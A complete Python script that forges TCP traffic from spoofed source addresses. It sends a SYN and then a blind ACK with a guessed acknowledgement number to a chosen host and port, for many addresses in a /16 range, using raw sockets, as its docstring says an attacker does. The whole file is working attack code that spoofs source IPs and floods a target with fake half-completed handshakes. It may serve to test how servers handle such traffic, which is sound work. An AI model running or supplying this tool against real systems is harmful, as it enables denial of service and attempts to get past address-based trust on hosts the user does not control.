#!/usr/bin/env python3
"""Blind TCP handshakes from spoofed sources, as an attacker makes them.

  spoof.py [--pairs N] [--net A.B] [--gap-ms MS] DST PORT

For each of N random source addresses in A.B.0.0/16 (default 10.77), sends
a SYN to DST:PORT and, GAP-MS later, the ACK that would complete the
handshake. The spoofer never sees the server's SYN-ACK (it goes to the
spoofed address), so its ACK acknowledges a guessed sequence number.
Raw socket with IP_HDRINCL: needs CAP_NET_RAW. Prints "sent N pairs".
"""
import argparse
import random
import socket
import struct
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def segment(src, dst, sport, dport, seq, ack, flags):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags,
                      65535, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + \
        struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp),
                     random.randrange(65536), 0, 64, socket.IPPROTO_TCP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("dst")
    p.add_argument("port", type=int)
    p.add_argument("--pairs", type=int, default=200)
    p.add_argument("--net", default="10.77")
    p.add_argument("--gap-ms", type=float, default=20)
    a = p.parse_args()
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    syn, ack = 0x02, 0x10
    sent = 0
    for i in range(a.pairs):
        src = "%s.%d.%d" % (a.net, 1 + i // 250, 1 + i % 250)
        sport = random.randrange(1024, 65536)
        seq = random.randrange(1 << 32)
        s.sendto(segment(src, a.dst, sport, a.port, seq, 0, syn),
                 (a.dst, 0))
        time.sleep(a.gap_ms / 1000)
        s.sendto(segment(src, a.dst, sport, a.port, (seq + 1) & 0xFFFFFFFF,
                         random.randrange(1 << 32), ack), (a.dst, 0))
        sent += 1
    print("sent %d pairs" % sent)


if __name__ == "__main__":
    main()
